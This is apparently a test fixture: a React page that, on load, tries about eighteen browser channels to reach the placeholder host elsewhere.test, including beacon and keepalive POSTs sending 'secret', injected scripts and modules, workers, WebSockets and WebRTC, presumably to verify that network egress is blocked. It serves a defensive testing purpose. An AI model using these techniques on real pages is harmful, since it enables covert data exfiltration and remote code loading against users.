// Ends: never
// Holds: Still here
// Holds: ://elsewhere.test/fetch
// Holds: ://elsewhere.test/xhr
// Holds: ://elsewhere.test/beacon
// Holds: ://elsewhere.test/keepalive
// Holds: ://elsewhere.test/image
// Holds: ://elsewhere.test/socket
// Holds: ://elsewhere.test/events
// Holds: ://elsewhere.test/script
// Holds: ://elsewhere.test/style
// Holds: ://elsewhere.test/frame
// Holds: ://elsewhere.test/audio
// Holds: ://elsewhere.test/worker
// Holds: ://elsewhere.test/worker-socket
// Holds: ://elsewhere.test/window
// Holds: ://elsewhere.test/background
// Holds: ://elsewhere.test/module

const base = "http://elsewhere.test";
const url = (how: string) => base + "/" + how;
const tries: (() => unknown)[] = [
  () => fetch(url("fetch")).catch(() => {}),
  () => { const x = new XMLHttpRequest(); x.open("GET", url("xhr")); x.send(); },
  () => navigator.sendBeacon(url("beacon"), "secret"),
  () => fetch(url("keepalive"), { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }).catch(() => {}),
  () => { new Image().src = url("image"); },
  () => new WebSocket(url("socket").replace("http", "ws")),
  () => new EventSource(url("events")),
  () => { const s = document.createElement("script"); s.src = url("script"); document.head.append(s); },
  () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = url("style"); document.head.append(l); },
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = base; document.head.append(l); },
  () => { const f = document.createElement("iframe"); f.title = "f"; f.src = url("frame"); document.body.append(f); },
  () => { const a = document.createElement("audio"); a.src = url("audio"); a.load(); },
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("worker")}"); new WebSocket("${url("worker-socket").replace("http", "ws")}")`]))),
  () => navigator.serviceWorker?.register("/sw.js").catch(() => {}),
  () => window.open(url("window")),
  () => { const r = new RTCPeerConnection({ iceServers: [{ urls: base.replace("http://", "stun:") }] }); r.createDataChannel("d"); void r.createOffer().then((o) => r.setLocalDescription(o)); },
  () => document.body.style.setProperty("background-image", `url(${url("background")})`),
  () => import(/* @vite-ignore */ url("module")).catch(() => {}),
];
for (const attempt of tries) { try { attempt(); } catch { /* refused is as good as blocked */ } }

export default function Page() {
  return <h1>Still here</h1>;
}
